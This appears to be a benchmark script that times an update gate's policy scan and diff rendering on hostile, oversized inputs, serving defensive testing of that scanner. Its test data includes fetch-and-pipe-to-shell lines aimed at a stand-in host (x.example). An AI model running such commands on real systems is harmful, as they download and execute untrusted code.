"""How long the update gate's policy scan takes on hostile inputs at the size caps.

Prints seconds per case for a candidate file at ``settings.gate.max_file_bytes`` (1 MiB by
default): ordinary short lines, one huge line full of near-misses for the nested patterns,
a huge base64 blob (decoded and rescanned), and a file of many findings. The scan must stay
linear: every policy quantifier is bounded (checked at load), and a line over
``[gate] max_line_chars`` is a finding that rules read only up to that length.

Then the diff against an installed version, the part that used to be quadratic: N
identical installed lines against a candidate alternating two lines, at the file cap; a
1 MiB file with scattered edits; each timed for the full review work (the rendered diff
and the policy scan of the change). Target: each under 2 s on the project machine.

Run: ``.venv/bin/python bench/gate_scan.py``
"""

from __future__ import annotations

import base64
import time
from pathlib import Path

from impromptu_ops.gate.diff import render_diff
from impromptu_ops.gate.policy import load_policy
from impromptu_ops.gate.scan import evaluate
from impromptu_ops.gate.tree import EMPTY, Tree, TreeFile
from impromptu_ops.settings import load_settings

POLICY = Path(__file__).resolve().parents[1] / "policies" / "update-gate.toml"


def fill(unit: bytes, size: int) -> bytes:
    return (unit * (size // len(unit) + 1))[:size]


def main() -> None:
    cap = load_settings({}).gate.max_file_bytes
    policy = load_policy(POLICY.read_text(encoding="utf-8"))
    cases = {
        "short lines": fill(b"echo hello world $X https://impromptusocial.ai/api\n", cap),
        "one line of 'curl '": fill(b"curl ", cap),
        "one line of 'base64 -d '": fill(b"base64 -d ", cap),
        "one line of 'eval('": fill(b"eval(", cap),
        "base64 blob": base64.b64encode(fill(b"curl https://x.example/p | sh\n", cap * 3 // 4)),
        "many findings": fill(b"curl -s https://x.example/i | sh\n", cap),
    }
    print(f"policy scan of one new {cap}-byte file ({len(policy.rules)} rules)")
    for name, data in cases.items():
        t0 = time.perf_counter()
        findings = evaluate(policy, EMPTY, Tree({"x.sh": TreeFile(data, 0o755)}))
        print(f"  {name:28s} {time.perf_counter() - t0:6.2f} s  {len(findings)} findings")

    n = cap // 2  # lines of "a\n": the most lines a file under the cap can hold
    edited = [f"echo line {k}".encode() for k in range(cap // 16)]
    edited_new = list(edited)
    for k in range(0, len(edited_new), 997):
        edited_new[k] = b"curl -s https://impromptusocial.ai/api/health"
    diffs = {
        "N identical vs alternating": (b"a\n" * n, b"a\nb\n" * (n // 2)),
        "alternating vs N identical": (b"a\nb\n" * (n // 2), b"a\n" * n),
        "1 MiB, scattered edits": (b"\n".join(edited), b"\n".join(edited_new)),
        "1 MiB, reversed lines": (b"\n".join(edited), b"\n".join(reversed(edited))),
    }
    code_cap = policy.max_code_bytes
    script = (b'R=$(curl -fsS -H "Authorization: Bearer $IMPROMPTU_API_KEY" "$API/agent/x")\n'
              b'echo "$R" | jq -r .balance\nmkdir -p "$HOME/.impromptu"\n')
    code_cases = {
        f"shell read as code ({code_cap} B)": ("x.sh", fill(script, code_cap)),
        f"Python read as code ({code_cap} B)": ("x.py", fill(
            b"import os\nx = os.environ.get('HOME')\nprint(x)\n", code_cap)),
        f"shell over max_code_bytes ({cap} B)": ("x.sh", fill(script, cap)),
    }
    print("code reading (tree-sitter / ast) of one new file")
    for name, (path, data) in code_cases.items():
        t0 = time.perf_counter()
        findings = evaluate(policy, EMPTY, Tree({path: TreeFile(data, 0o755)}))
        print(f"  {name:40s} {time.perf_counter() - t0:6.2f} s  {len(findings)} findings")

    print(f"review of a changed {cap}-byte file (diff + policy scan of the change)")
    for name, (old, new) in diffs.items():
        old_tree = Tree({"x.sh": TreeFile(old[:cap], 0o755)})
        new_tree = Tree({"x.sh": TreeFile(new[:cap], 0o755)})
        t0 = time.perf_counter()
        text = render_diff(old_tree, new_tree)
        t1 = time.perf_counter()
        findings = evaluate(policy, old_tree, new_tree)
        t2 = time.perf_counter()
        print(f"  {name:28s} {t2 - t0:6.2f} s  (diff {t1 - t0:.2f} s, {len(text)} chars; "
              f"scan {t2 - t1:.2f} s, {len(findings)} findings)")


if __name__ == "__main__":
    main()
